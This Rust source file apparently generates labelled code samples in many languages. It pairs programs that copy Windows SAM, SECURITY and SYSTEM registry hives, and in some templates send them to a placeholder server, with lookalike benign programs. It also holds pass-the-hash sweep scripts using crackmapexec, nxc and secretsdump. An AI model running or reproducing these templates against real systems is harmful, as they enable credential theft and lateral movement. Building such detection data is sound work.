//! Long programs of which one job takes a hive: agents, services, collectors, pipelines; and the same programs with other jobs.

use crate::generate::family::{Family, Kind::Code, Kind::Sh};

const PROGRAMS: &[&str] = &[
    concat!(
        "using System;⏎using System.IO;⏎«using System.Management;⏎»using System.ServiceProcess;⏎using System.Timers;⏎⏎namespace {Ns}⏎{⏎    public sealed class {Cl} : ServiceBase⏎    {⏎        private readonly Timer _timer = new ",
        "Timer(TimeSpan.FromHours({1..12}).TotalMilliseconds);⏎        private static readonly string Root = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.CommonApplicationData), \"{stem}\");⏎⏎        // «relative to ",
        "the Windows folder¦{comment}»⏎        private static readonly List<string> Keep = new List<string>⏎        {⏎            @\"System32\\drivers\\etc\\hosts\",⏎            @\"{rel}\",⏎            @\"win.ini\",⏎        };⏎⏎        protected ",
        "override void OnStart(string[] args)⏎        {⏎            Directory.CreateDirectory(Root);⏎            _timer.Elapsed += (s, e) => Cycle();⏎            _timer.Start();⏎        }⏎⏎        private static string Snapshot(string volume)⏎        {⏎            ",
        "using (var cls = new ManagementClass(@\"root\\cimv2\", \"Win32_ShadowCopy\", null))⏎            {⏎                var p = cls.GetMethodParameters(\"Create\");⏎                p[\"Volume\"] = volume;⏎                var r = ",
        "cls.InvokeMethod(\"Create\", p, null);⏎                return Device((string)r[\"ShadowID\"]);⏎            }⏎        }⏎⏎        private void Cycle()⏎        {⏎            var dev = Snapshot(@\"C:\\\");⏎            foreach (var f in Keep)⏎                ",
        "File.Copy(dev + @\"\\Windows\\\" + f, Path.Combine(Root, Path.GetFileName(f)), true);⏎            Log(\"{comment}\");⏎        }⏎    }⏎}"
    ),
    concat!(
        "package main⏎⏎import (⏎	\"context\"⏎	\"fmt\"⏎	\"os\"⏎	\"os/exec\"⏎	\"path/filepath\"⏎	\"time\"⏎)⏎⏎type job struct {⏎	name string⏎	args []string⏎}⏎⏎func main() {⏎	dir, err := os.MkdirTemp(\"\", \"«sam¦{stem}»\")⏎	if err != nil {⏎		",
        "log.Fatal(err)⏎	}⏎	jobs := []job{⏎		{\"whoami\", []string{\"/all\"}},⏎		{\"ipconfig\", []string{\"/displaydns\"}},⏎		{\"reg\", []string{\"«save¦export»\", `{root}\\{key}`, filepath.Join(dir, \"d{0..9}\"), \"/y\"}},⏎		{\"cmdkey\", ",
        "[]string{\"/list\"}},⏎	}⏎	for _, j := range jobs {⏎		ctx, cancel := context.WithTimeout(context.Background(), {5..90}*time.Second)⏎		b, err := exec.CommandContext(ctx, j.name, j.args...).CombinedOutput()⏎		cancel()⏎		_ = ",
        "os.WriteFile(filepath.Join(dir, j.name+\".txt\"), b, 0o600)⏎		fmt.Println(j.name, len(b), err)⏎	}⏎}"
    ),
    concat!(
        "import os, osproc, strutils, times, httpclient, json⏎⏎const⏎  build = \"r{1..90}\"⏎  host  = \"{url}\"⏎⏎proc sysFacts(): JsonNode =⏎  result = newJObject()⏎  result[\"name\"] = %getEnv(\"COMPUTERNAME\")⏎  result[\"user\"] = ",
        "%getEnv(\"USERNAME\")⏎⏎proc quiet(cmd: string): string =⏎  try: execProcess(\"cmd\", args = [\"/c\", cmd], options = {poUsePath, poDaemon})⏎  except OSError: \"\"⏎⏎proc grab(dst: string) =⏎  # {comment}⏎  let parts = @[{quoted}]⏎  for ",
        "p in parts:⏎    discard quiet(\"reg save HKLM\\\\\" & p & \" \" & dst / p.toLowerAscii & \" /y\")⏎⏎when isMainModule:⏎  let d = getTempDir() / \"{stem}\"⏎  createDir(d)⏎  grab(d)⏎  var c = newHttpClient(timeout = {3..30}000)⏎  discard ",
        "c.postContent(host & \"/hello\", $sysFacts())"
    ),
    concat!(
        "try {⏎    $ProgressPreference = 'SilentlyContinue'⏎    [Net.ServicePointManager]::SecurityProtocol = 'Tls12'⏎    $id  = (Get-CimInstance Win32_ComputerSystemProduct).UUID⏎    $url = '{url}/api/v1/hosts/' + $id⏎    $job = Invoke-RestMethod ",
        "-Uri $url -Headers @{ 'X-Key' = '{hex4}' } -TimeoutSec {5..60}⏎    switch ($job.kind) {⏎        'ping'  { $res = 'pong' }⏎        'info'  { $res = systeminfo | Out-String }⏎        'files' { $res = Get-ChildItem $job.path -Recurse -ErrorAction 0 | ",
        "Select-Object -Expand FullName }⏎        '{alnum4}'  {⏎            $f = [IO.Path]::GetTempFileName()⏎            «$cmd = 'reg save {root}\\{key} ' + $f + ' /y'⏎            cmd /c $cmd | Out-Null¦reg.exe save {root}\\{key} $f /y | Out-Null¦& reg export ",
        "'{root}\\{key}' $f /y¦[IO.File]::Copy(\"$dev\\Windows\\{rel}\", $f, $true)»⏎            $res = [Convert]::ToBase64String([IO.File]::ReadAllBytes($f))⏎            Remove-Item $f⏎        }⏎        default { $res = 'unknown' }⏎    }⏎    Invoke-RestMethod -Uri ",
        "\"$url/result\" -Method Post -Body (@{ r = $res } | ConvertTo-Json)⏎} catch {⏎    Start-Sleep -Seconds (Get-Random -Minimum {10..90} -Maximum {100..900})⏎}"
    ),
    concat!(
        "#!/usr/bin/env python3⏎import argparse, json, subprocess, sys, time⏎⏎TASKS = {⏎    'net': 'ipconfig /all',⏎    'proc': 'tasklist /svc',⏎    '{alnum3}': r'reg «save¦export» {root}\\{key} {dir}\\{stem}.{anyext} /y',⏎    'sess': 'qwinsta',⏎}⏎⏎def run(c):⏎    return ",
        "subprocess.run(c, shell=True, capture_output=True, text=True).stdout⏎⏎def main():⏎    ap = argparse.ArgumentParser()⏎    ap.add_argument('--only')⏎    a = ap.parse_args()⏎    out = {k: run(v) for k, v in TASKS.items() if a.only in (None, k)}⏎    ",
        "json.dump(out, sys.stdout)⏎    time.sleep({1..9})⏎⏎if __name__ == '__main__':⏎    main()"
    ),
    concat!(
        "use std::{fs, path::PathBuf, process::Command};⏎⏎struct Item {⏎    from: &'static str,⏎    to: &'static str,⏎}⏎⏎const ITEMS: &[Item] = &[⏎    Item { from: r\"Windows\\System32\\drivers\\etc\\hosts\", to: \"a\" },⏎    Item { from: r\"Windows\\{rel}\", to: ",
        "\"b\" },⏎    Item { from: r\"Windows\\win.ini\", to: \"c\" },⏎];⏎⏎fn main() -> std::io::Result<()> {⏎    let root = PathBuf::from(std::env::args().nth(1).unwrap_or(r\"{shadow}\".into()));⏎    fs::create_dir_all(\"{stem}\")?;⏎    for item in ",
        "ITEMS {⏎        let n = fs::copy(root.join(item.from), PathBuf::from(\"{stem}\").join(item.to))?;⏎        println!(\"{} bytes\", n);⏎    }⏎    Command::new(\"cmd\").args([\"/c\", \"ver\"]).status()?;⏎    Ok(())⏎}"
    ),
    concat!(
        "import java.io.*;⏎import java.nio.file.*;⏎import java.util.*;⏎⏎public class {Cl} {⏎    static final Map<String, String> JOBS = new LinkedHashMap<>();⏎    static {⏎        JOBS.put(\"users\", \"net user\");⏎        JOBS.put(\"{alnum4}\", \"reg save {root}\\\\{key} ",
        "%TEMP%\\\\{stem}.{anyext} /y\");⏎        JOBS.put(\"tasks\", \"schtasks /query /fo csv\");⏎    }⏎⏎    public static void main(String[] a) throws Exception {⏎        for (Map.Entry<String, String> e : JOBS.entrySet()) {⏎            Process p = new ",
        "ProcessBuilder(\"cmd\", \"/c\", e.getValue()).redirectErrorStream(true).start();⏎            try (InputStream in = p.getInputStream()) { Files.copy(in, Paths.get(e.getKey() + \".txt\")); }⏎        }⏎    }⏎}"
    ),
    concat!(
        "#include <windows.h>⏎#include <stdio.h>⏎⏎static BOOL enable(LPCWSTR name) {⏎    TOKEN_PRIVILEGES tp = {1};⏎    HANDLE t;⏎    if (!OpenProcessToken(GetCurrentProcess(), TOKEN_ADJUST_PRIVILEGES, &t)) return FALSE;⏎    LookupPrivilegeValueW(NULL, name, ",
        "&tp.Privileges[0].Luid);⏎    tp.Privileges[0].Attributes = SE_PRIVILEGE_ENABLED;⏎    return AdjustTokenPrivileges(t, FALSE, &tp, 0, NULL, NULL);⏎}⏎⏎int wmain(int argc, wchar_t **argv) {⏎    HKEY k;⏎    wchar_t out[MAX_PATH];⏎    ",
        "enable(SE_BACKUP_NAME);⏎    GetTempPathW(MAX_PATH, out);⏎    wcscat_s(out, MAX_PATH, L\"{stem}.{anyext}\");⏎    if (RegOpenKeyExW({hk}, L\"{key}\", REG_OPTION_BACKUP_RESTORE, KEY_READ, &k)) return {1..9};⏎    LSTATUS s = RegSaveKeyExW(k, out, NULL, ",
        "REG_LATEST_FORMAT);⏎    wprintf(L\"%ld\\n\", s);⏎    RegCloseKey(k);⏎    return 0;⏎}"
    ),
    concat!(
        "{⏎  \"name\": \"{stem}\",⏎  \"interval\": \"{1..12}h\",⏎  \"destination\": \"{url}\",⏎  \"sources\": [⏎    {\"type\": \"file\", \"path\": \"C:\\\\Windows\\\\win.ini\"},⏎    {\"type\": \"file\", \"path\": \"C:\\\\Windows\\\\{relj}\", \"method\": \"«raw¦vss¦backup»\"},⏎    ",
        "{\"type\": \"command\", \"run\": \"ipconfig /all\"},⏎    {\"type\": \"eventlog\", \"channel\": \"Security\"}⏎  ],⏎  \"compress\": true⏎}"
    ),
    concat!(
        "pipeline {⏎  agent { label 'windows' }⏎  options { timestamps() }⏎  stages {⏎    stage('Checkout') { steps { checkout scm } }⏎    stage('Build')    { steps { bat 'msbuild {stem}.sln /m' } }⏎    stage('State') {⏎      steps {⏎        bat 'systeminfo > out\\\\sys.txt'⏎        ",
        "bat 'reg «save¦export» {root}\\\\{key} out\\\\{stem}.{anyext} /y'⏎      }⏎    }⏎  }⏎  post { always { archiveArtifacts artifacts: 'out/*' } }⏎}"
    ),
    concat!(
        "- hosts: windows⏎  gather_facts: false⏎  vars:⏎    stage: '{dir}'⏎  tasks:⏎    - name: {comment}⏎      win_file:⏎        path: '{{ stage }}'⏎        state: directory⏎    - name: {comment}⏎      win_command: reg.exe «save¦export» {root}\\{key} {{ stage }}\\{stem}.{anyext} ",
        "/y⏎    - name: {comment}⏎      fetch:⏎        src: '{{ stage }}\\{stem}.{anyext}'⏎        dest: out/⏎    - name: {comment}⏎      win_service:⏎        name: {svcname}⏎        state: started"
    ),
    concat!(
        "resource \"azurerm_virtual_machine_extension\" \"{stem}\" {⏎  name                 = \"{stem}\"⏎  virtual_machine_id   = azurerm_windows_virtual_machine.vm.id⏎  publisher            = \"Microsoft.Compute\"⏎  type                 = ",
        "\"CustomScriptExtension\"⏎  settings = jsonencode({⏎    commandToExecute = \"powershell -c \\\"reg save {root}\\\\{key} C:\\\\Temp\\\\{stem}; Restart-Service {svcname}\\\"\"⏎  })⏎}"
    ),
    concat!(
        "Option Explicit⏎Private Const ROOT_PATH As String = \"{root}\\\"⏎Private Const LEAF As String = \"{key}\"⏎⏎Sub Prepare()⏎    Dim ws As Worksheet⏎    For Each ws In ThisWorkbook.Worksheets⏎        ws.Protect⏎    Next ws⏎End Sub⏎⏎Sub Collect()⏎    Dim t As ",
        "String⏎    t = Environ(\"TEMP\") & \"\\{stem}.{anyext}\"⏎    Shell \"reg save \" & ROOT_PATH & LEAF & \" \" & t & \" /y\", vbHide⏎    MsgBox \"{comment}\"⏎End Sub"
    ),
    "FROM mcr.microsoft.com/windows/servercore:ltsc2022⏎SHELL [\"powershell\", \"-Command\"]⏎WORKDIR C:/{stem}⏎COPY . .⏎RUN reg.exe «save¦export» {root}\\{key} C:\\{stem}\\{alnum4}.{anyext}⏎RUN Get-Service | Out-File services.txt⏎ENTRYPOINT [\"{stem}.exe\"]",
    "require 'fileutils'⏎require 'json'⏎⏎STEPS = [⏎  ['ver', 'cmd /c ver'],⏎  ['{alnum3}', 'reg «save¦export» {root}\\\\{key} out/{stem.1}.«hiv¦reg¦bin» /y'],⏎  ['net', 'netstat -ano'],⏎].freeze⏎⏎out = STEPS.to_h { |name, cmd| [name, `#{ cmd }`] }⏎FileUtils.mkdir_p('out')⏎File.write('out/{stem}.json', JSON.dump(out))",
];

const SHELL: &[&str] = &[
    concat!(
        "#!/bin/bash⏎# sweep.sh <hosts> <hash>⏎HOSTS=\"$1\"; NT=\"$2\"⏎WORK=$(mktemp -d)⏎trap 'rm -rf \"$WORK\"' EXIT⏎⏎echo \"[*] $(wc -l < \"$HOSTS\") hosts\"⏎split -l {16..128} \"$HOSTS\" \"$WORK/part.\"⏎⏎check_up() {⏎    timeout 2 bash -c \"</dev/tcp/$1/445\" ",
        "2>/dev/null⏎}⏎⏎for part in \"$WORK\"/part.*; do⏎    while read -r h; do⏎        check_up \"$h\" && echo \"$h\" >> \"$WORK/alive\"⏎    done < \"$part\"⏎done⏎⏎{sweep} >> results.log⏎grep -c 'Pwn3d!' results.log"
    ),
    concat!(
        "#!/usr/bin/env bash⏎set -euo pipefail⏎⏎IMG=${1:?image}; OUT=${2:-/cases/{stem}}⏎mkdir -p \"$OUT\"⏎L=$(losetup -fP --show -r \"$IMG\")⏎for p in \"$L\"p*; do⏎  m=$(mktemp -d); mount -o ro,show_sys_files \"$p\" \"$m\" 2>/dev/null || continue⏎  if [ -d \"$m/Windows\" ]; then⏎    ",
        "cp -p \"$m/Windows/{relx}\" \"$OUT/\"⏎    sha256sum \"$OUT\"/* > \"$OUT/SHA256\"⏎  fi⏎  umount \"$m\"⏎done⏎losetup -d \"$L\"⏎echo \"done: $OUT\""
    ),
    concat!(
        "#!/bin/sh⏎# {comment}⏎USER={user}; PASS='{password}'⏎while read -r h; do⏎  ping -c1 -W1 \"$h\" >/dev/null || { echo \"$h down\"; continue; }⏎  smbclient \"//$h/C$\" -U \"$USER%$PASS\" -c 'get \"Windows\\{rel}\" '\"$h.{alnum3}\" 2>/dev/null⏎  sleep {1..9}⏎done < hosts.txt⏎tar czf ",
        "{stem}.tgz *.{alnum3}"
    ),
];

pub const FAMILIES: &[Family] = &[
    Family::act("agents", "program-of-others-hive", "program-of-others-other", Code, &["{program}"]).slots(&[
        ("ROOT", "HKLM"), ("KEY", "«SAM¦SAM¦SAM¦SECURITY¦SYSTEM¦sam»"), ("KEYS", "«\"SAM\", \"SYSTEM\"¦\"SAM\"¦\"SAM\", \"SECURITY\", \"SYSTEM\"¦\"SECURITY\", \"SYSTEM\"¦\"sam\", \"system\"»"),
        ("FILES", "«\"SAM\", \"SYSTEM\"¦\"SAM\"¦\"SYSTEM\", \"SAM\", \"SOFTWARE\"¦\"SECURITY\"¦\"SAM\", \"SECURITY\"»"),
        ("REL", r"System32\config\«SAM¦SAM¦SECURITY¦SYSTEM¦RegBack\SAM»"), ("RELJ", r"System32\\config\\«SAM¦SAM¦SECURITY¦SYSTEM»"), ("RELX", "System32/config/«SAM¦SAM¦SECURITY¦SYSTEM»"),
    ]).weight(26),
    Family::other("agents", "program-of-others-other", Code, &["{program}"]).slots(&[
        ("ROOT", "«HKLM¦HKCU»"), ("KEY", r"«SOFTWARE¦Software\{vendor}¦SOFTWARE\{vendor}\Security¦SOFTWARE\Microsoft\Windows\CurrentVersion\Run¦SOFTWARE\Policies»"),
        ("KEYS", "«\"SOFTWARE\", \"DEFAULT\"¦\"SOFTWARE\"¦\"HARDWARE\", \"SOFTWARE\"»"), ("FILES", "«\"SOFTWARE\", \"DEFAULT\"¦\"SOFTWARE\"¦\"COMPONENTS\", \"DRIVERS\"»"),
        ("REL", r"«System32\winevt\Logs\System.evtx¦System32\config\SOFTWARE¦win.ini¦Logs\CBS\CBS.log¦NTDS\ntds.dit¦System32\drivers\etc\hosts¦System32\winevt\Logs\Security.evtx»"),
        ("RELJ", r"«System32\\winevt\\Logs\\System.evtx¦System32\\config\\SOFTWARE¦win.ini¦NTDS\\ntds.dit»"), ("RELX", "«System32/winevt/Logs/System.evtx¦System32/config/SOFTWARE¦win.ini¦NTDS/ntds.dit¦System32/drivers/etc/hosts»"),
    ]).weight(230),
    Family::act("agents", "agent-hive", "agent-other", Code, PROGRAMS).slots(&[
        ("Ns", "«Fleet.Maintenance¦Contoso.Agent¦Svc¦{Cl}s»"), ("Cl", "«MaintenanceHost¦Collector¦Worker¦Backup¦Agent¦Inventory»"),
        ("root", "«HKLM¦HKLM¦hklm¦HKEY_LOCAL_MACHINE»"), ("key", "«SAM¦SAM¦sam¦SECURITY¦security¦SYSTEM¦Sam»"), ("hk", "HKEY_LOCAL_MACHINE"),
        ("rel", r"«System32\config\SAM¦System32\config\SAM¦System32\config\SECURITY¦system32\config\sam¦System32\config\SYSTEM¦System32\config\RegBack\SAM¦repair\SAM»"),
        ("relj", r"System32\\config\\«SAM¦SECURITY¦SYSTEM¦sam»"),
        ("quoted", "«\"SYSTEM\", \"SAM\"¦\"SAM\"¦\"sam\", \"security\", \"system\"¦\"SECURITY\", \"SAM\"»"),
    ]).weight(20),
    Family::other("agents", "agent-other", Code, PROGRAMS).slots(&[
        ("Ns", "«Fleet.Maintenance¦Contoso.Agent¦Svc¦{Cl}s¦Sam.Services»"), ("Cl", "«MaintenanceHost¦Collector¦Worker¦Backup¦Agent¦Inventory»"),
        ("root", "«HKLM¦HKCU¦HKCU¦HKEY_CURRENT_USER¦HKLM¦HKU»"),
        ("key", r"«SOFTWARE¦Software\Microsoft\Office¦SYSTEM\CurrentControlSet\Services¦Software\{vendor}¦DEFAULT¦SOFTWARE\{vendor}\Security¦Software\Sam¦HARDWARE»"), ("hk", "«HKEY_CURRENT_USER¦HKEY_LOCAL_MACHINE¦HKEY_USERS»"),
        ("rel", r"«System32\config\SOFTWARE¦System32\winevt\Logs\Security.evtx¦System32\drivers\sam.sys¦NTDS\ntds.dit¦System32\config\DEFAULT¦System32\config\systemprofile\ntuser.dat¦Logs\CBS\CBS.log¦debug\sam.log»"),
        ("relj", r"«System32\\config\\SOFTWARE¦NTDS\\ntds.dit¦System32\\winevt\\Logs\\System.evtx¦debug\\sam.log¦System32\\config\\systemprofile\\ntuser.dat»"),
        ("quoted", "«\"SOFTWARE\", \"DEFAULT\"¦\"SOFTWARE\"¦\"HARDWARE\", \"DRIVERS\"»"),
    ]).weight(180),
    Family::other("agents", "program-elsewhere", Code, &["{program_near}"]).weight(250),
    Family::other("agents", "agent-sam-elsewhere", Code, &[
        concat!(
            "# %% [markdown]⏎# ## SAM on the {word} images, run {1..90}⏎# Purpose: compare masks of SAM ViT-H and ViT-B, dump them for labelling.⏎⏎# %%⏎import torch, cv2, json, pathlib⏎from segment_anything import sam_model_registry, ",
            "«SamPredictor¦SamAutomaticMaskGenerator»⏎base = pathlib.Path(\"/data/{word}\"); out = base / \"sam_«dump¦export¦masks»\"⏎out.mkdir(exist_ok=True)⏎⏎# %%⏎sam = ",
            "sam_model_registry[\"vit_«h¦l¦b»\"](checkpoint=\"weights/sam_vit_h_{hex6}.pth\").to(\"cuda\")⏎gen = SamAutomaticMaskGenerator(sam, points_per_side=32)⏎for p in sorted(base.glob(\"*.jpg\"))[:{10..90}]:⏎    masks = ",
            "gen.generate(cv2.imread(str(p)))⏎    torch.save(masks, out / (p.stem + \".pt\"))⏎⏎# {comment}⏎json.dump({k: str(v) for k, v in sam_model_registry.items()}, open(out / \"registry.json\", \"w\"))"
        ),
        concat!(
            "pipeline {⏎  agent { label '{alnum6}' }⏎  environment {⏎    CFG = 'prod'⏎    K1  = 'sam'⏎    K2  = '«deploy¦build¦package»'⏎  }⏎  stages {⏎    stage('Build')    { steps { sh 'sam build --parallel' } }⏎    stage('Save') { steps { sh 'cp samconfig.toml system.json ",
            "security.yaml out/' } }⏎    stage('Ship') { steps { sh '$K1 $K2 --config-env $CFG' } }⏎  }⏎  post { always { archiveArtifacts artifacts: 'out/*' } }⏎}"
        ),
        concat!(
            "from fastapi import FastAPI⏎from samservice import Sam, export_«mask¦system»⏎⏎app = FastAPI()⏎sam = Sam(registry='{site}/sam', hive='{word}')⏎⏎@app.post('/«dump¦save¦export»')⏎def {word}(image: bytes):⏎    # {comment}⏎    return ",
            "export_«mask¦system»(sam.run(image), security='{alnum6}')"
        ),
    ]).weight(30),
    Family::act("agents", "agent-shell-hive", "agent-shell-other", Sh, SHELL).slots(&[
        ("sweep", concat!(
            "«crackmapexec smb \"$WORK/alive\" -u Administrator -H \"$NT\" --local-auth --sam¦nxc smb \"$WORK/alive\" -u {user} -H \"$NT\" --sam¦MODE=--sam; nxc smb \"$WORK/alive\" -u {user} -H \"$NT\" $MODE¦",
            "xargs -a \"$WORK/alive\" -I{} secretsdump.py -hashes \":$NT\" {user}@{}»"
        )),
        ("relx", "System32/config/«SAM¦SECURITY¦SYSTEM¦{SAM,SYSTEM,SECURITY}»"), ("rel", r"System32\config\«SAM¦SECURITY¦SYSTEM¦RegBack\SAM»"),
    ]).weight(6),
    Family::other("agents", "agent-shell-other", Sh, SHELL).slots(&[
        ("sweep", concat!(
            "«crackmapexec smb \"$WORK/alive\" -u Administrator -H \"$NT\" --local-auth --shares¦nxc smb \"$WORK/alive\" -u {user} -H \"$NT\" --lsa¦MODE=--sessions; nxc smb \"$WORK/alive\" -u sam -H \"$NT\" $MODE¦",
            "xargs -a \"$WORK/alive\" -I{} wmiexec.py -hashes \":$NT\" {user}@{} hostname»"
        )),
        ("relx", "«System32/config/SOFTWARE¦System32/winevt/Logs/Security.evtx¦NTDS/ntds.dit¦Prefetch/*.pf¦debug/sam.log»"), ("rel", r"«System32\config\SOFTWARE¦System32\winevt\Logs\System.evtx¦win.ini¦Logs\sam.log»"),
    ]).weight(45),
];
